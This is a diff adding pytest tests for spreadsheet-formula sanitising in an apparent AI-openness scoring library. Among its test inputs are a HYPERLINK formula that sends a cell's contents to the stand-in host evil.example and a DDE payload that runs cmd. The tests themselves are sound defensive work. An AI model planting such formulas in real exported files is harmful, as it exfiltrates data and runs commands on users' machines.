@@ -96,6 +96,43 @@ def test_to_frame_verdicts(path: str, osaid: bool, status: str) -> None:
     assert row["osaid_status"] == str(a.osaid.status)
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        pytest.param('=HYPERLINK("https://evil.example/?x="&A1,"Click")', id="hyperlink"),
+        pytest.param("+cmd|' /C calc'!A0", id="dde-plus"),
+        pytest.param("-2+3", id="minus"),
+        pytest.param("@SUM(1+1)", id="at"),
+        pytest.param("\uff1dcmd", id="fullwidth-equals"),
+    ],
+)
+def test_to_frame_sanitize_makes_formulas_text(name: str) -> None:
+    a = openness.score({"name": name, "producer": name, "license": name})
+    kept = openness.to_frame([a]).iloc[0]
+    assert (kept["name"], kept["producer"], kept["license"]) == (name, name, name)
+    frame = openness.to_frame([a], sanitize=True)
+    safe = frame.iloc[0]
+    assert (safe["name"], safe["producer"], safe["license"]) == (f"'{name}",) * 3
+    # Numbers and booleans are not text: kept, with their types.
+    assert frame.dtypes.equals(openness.to_frame([a]).dtypes)
+    assert safe["score"] == kept["score"]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1", "'=1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("OLMo-7B", "OLMo-7B"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ],
+)
+def test_safe_cell(value: str, expected: str) -> None:
+    assert openness.safe_cell(value) == expected
+
+
 def _plotted(labels: str = "auto", names: dict[str, str] | None = None) -> tuple[Any, list[Any]]:
     import matplotlib as mpl  # noqa: PLC0415 - the plot extra
 
